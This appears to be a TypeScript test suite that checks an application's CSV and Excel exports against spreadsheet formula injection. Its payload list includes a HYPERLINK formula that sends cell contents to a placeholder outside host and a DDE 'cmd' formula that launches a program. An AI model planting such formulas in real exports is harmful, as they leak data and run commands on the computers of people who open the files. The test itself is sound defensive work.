import { api } from '@mostrador/contract/paths';
import { parse } from 'csv-parse/sync';
import type { Ask } from './ask.ts';
import type { Faults } from './outcome.ts';
import { reportFilledWith } from './reports.ts';

const formulas = [
  '=HYPERLINK("http://otro.example?x="&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '=cmd|" /C calc"!A0',
  'Balata; =1+1',
  'Balata|"@SUM(A1)',
];
const report = (words: string) => {
  const { perdida } = reportFilledWith(words);
  return { perdida: { ...perdida, nombre: `${words} "comillas", coma`, mensaje: `${words}\nsegunda línea` } };
};

/** A spreadsheet that opens an export computes nothing, and no cell moves into another. */
export async function proveExports(ask: Ask, cookie: string, faults: Faults): Promise<string[]> {
  for (const [index, words] of formulas.entries()) {
    await ask({ method: 'POST', path: api.lostSales, cookie, body: report(words) });
    await ask({ method: 'POST', path: api.messages, cookie, body: { list: { title: words, excerpt: 'red' } } });
    const person = { username: `formula-${index}`, name: `${words}  ` };
    await ask({ method: 'POST', path: api.people, cookie, body: person });
  }
  const files = [api.lostSalesCsv, api.auditExport, api.trainingExport, api.branchesCsv, api.usageExport];
  let found = 0;
  for (const path of files) {
    const { status, text, headers } = await ask({ path, cookie });
    faults.expect(status === 200 && headers['content-type'] === 'text/csv; charset=utf-8', `${path}: ${status}`);
    faults.expect(/^attachment; filename="[\w.-]+"$/.test(headers['content-disposition'] ?? ''), `${path} has no name`);
    const [head = [], ...lines] = parse(text, { bom: true }) as string[][];
    for (const line of lines) {
      faults.expect(line.length === head.length, `${path} has a line of ${line.length} cells`);
      for (const cell of line) {
        const isNumber = /^-?\d+(\.\d+)?$/.test(cell);
        // Some spreadsheets split at other signs than ours, and know nothing of our quotes then.
        const formula = /(?:^|[;|\t\r\n])[ "]*[=+\-@]/.test(cell);
        faults.expect(isNumber || !formula, `${path} has the formula ${cell.slice(0, 30)}`);
        if (/'[=+]/.test(cell)) found += 1;
      }
    }
  }
  faults.expect(found >= 20, `only ${found} formulas came through the exports as text`);
  return files;
}

/** The cells of an Excel file are words and numbers. */
export async function proveWorkbooks(
  ask: Ask,
  cookie: string,
  unzip: (bytes: Buffer) => Promise<string>,
  faults: Faults,
) {
  for (const path of [api.lostSalesXlsx, api.branchesXlsx]) {
    const { status, bytes } = await ask({ path, cookie });
    const xml = await unzip(bytes);
    faults.expect(status === 200 && xml.includes('<row'), `${path}: ${status}`);
    faults.expect(!/<(\w+:)?f[ >]/.test(xml), `${path} has a formula`);
  }
}
